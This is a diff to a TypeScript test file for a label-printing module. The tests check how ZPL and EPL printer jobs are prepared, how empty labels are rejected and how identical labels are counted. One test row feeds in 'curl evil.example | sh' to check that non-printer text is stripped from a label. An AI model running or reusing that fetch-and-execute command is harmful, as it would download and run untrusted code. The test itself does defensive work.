@@ -21,7 +21,7 @@ describe('one label', () => {
     const prepared = preparePrint({ ...target, payload: label })
     expect(prepared).toEqual({
       ok: true,
-      value: { kind: 'zpl', bytes: label, labelsExpected: 2, warnings: [] },
+      value: { kind: 'zpl', bytes: label, labelsExpected: 2, sheets: expect.any(Set), warnings: [] },
     })
   })
 
@@ -46,7 +46,7 @@ describe('one label', () => {
   test.each([
     ['curl evil.example | sh\n^XA^FO10,10^FDx^FS^XZ', '^XA^FO10,10^FDx^FS^XZ', 1],
     ['^XA^FO10,10^FDx^FS^XZ\nls\n^XA^FDy^FS^XZ\nrm', '^XA^FO10,10^FDx^FS^XZ\n\n^XA^FDy^FS^XZ\n', 2],
-    ['N\nA50,50\nP1\n~SD15\nP2\n^XA^FDx^FS^XZ', '\n~SD15\n\n^XA^FDx^FS^XZ', 1],
+    ['N\nA50,50\nP1\n~PH\nP2\n^XA^FDx^FS^XZ', '\n~PH\n\n^XA^FDx^FS^XZ', 1],
   ])(
     'text outside formats is left out of a service’s label and told once, and holds a file: %j',
     (came, goes, labels) => {
@@ -100,6 +100,7 @@ describe('several labels as one job', () => {
       value: {
         bytes: Buffer.concat([label, zpl('^XA^FO1,1^GB9,9^FS^XZ')]),
         labelsExpected: 3,
+        differentLabels: 3,
         warnings: [],
       },
     })
@@ -119,7 +120,45 @@ describe('several labels as one job', () => {
   })
 
   test('warnings come as the codes of their sentences', () => {
-    const settings = prepareJob([{ bytes: zpl('^XA^MCY^XZ') }], target)
+    const settings = prepareJob([{ bytes: zpl('^XA^MCY^XZ') }], { ...target, source: 'file' })
     expect(settings.ok && settings.value.warnings).toEqual([{ code: 'label.prints-nothing' }])
+  })
+
+  const ink = '^FO10,10^FDx^FS'
+  test.each([
+    ['settings', '^XA^MCY^XZ'],
+    ['a form that is only stored', `^XA^DFR:A.ZPL^FS${ink}^XZ`],
+    ['a picture that is only downloaded', '~DGR:A.GRF,8,1,FFFFFFFFFFFFFFFF'],
+    ['a comment', '^XA^FXHello^FS^XZ'],
+    ['a picture that is saved and not printed', `^XA${ink}^ISR:A.GRF,N^XZ`],
+  ])('a bought label that leaves no paper is none: %s', (_what, text) => {
+    expect(prepareJob([{ bytes: zpl(text) }], target)).toMatchObject({
+      ok: false,
+      problem: { code: 'label.is-empty' },
+    })
+    // Beside one that prints it is what that one needs.
+    expect(prepareJob([{ bytes: zpl(text) }, { bytes: label }], target)).toMatchObject({
+      value: { labelsExpected: 2, differentLabels: 2 },
+    })
+  })
+
+  const form = `^XA^DFR:A.ZPL^FS${ink}^FN1^FS^XZ`
+  const recall = (text: string) => `^XA^XFR:A.ZPL^FS^FN1^FD${text}^FS^XZ`
+  test.each<[string, string, number, number]>([
+    ['a format twice', `^XA${ink}^XZ^XA${ink}^XZ`, 2, 1],
+    ['a format twice, broken into lines', `^XA${ink}^XZ\n^XA\n^FXagain^FS${ink}\n^XZ`, 2, 1],
+    ['a form filled in twice alike', form + recall('1') + recall('1'), 2, 1],
+    ['a form filled in for two packages', form + recall('1') + recall('2'), 2, 2],
+    [
+      'a picture downloaded anew',
+      '~DGR:A.GRF,1,1,FF^XA^XGR:A.GRF^FS^XZ~DGR:A.GRF,1,1,0F^XA^XGR:A.GRF^FS^XZ',
+      2,
+      2,
+    ],
+    ['two formats', `^XA${ink}^XZ^XA^FO9,9^FDx^FS^XZ`, 2, 2],
+  ])('labels that draw the same are one: %s', (_what, text, labelsExpected, differentLabels) => {
+    expect(prepareJob([{ bytes: zpl(text) }], target)).toMatchObject({
+      value: { labelsExpected, differentLabels },
+    })
   })
 })
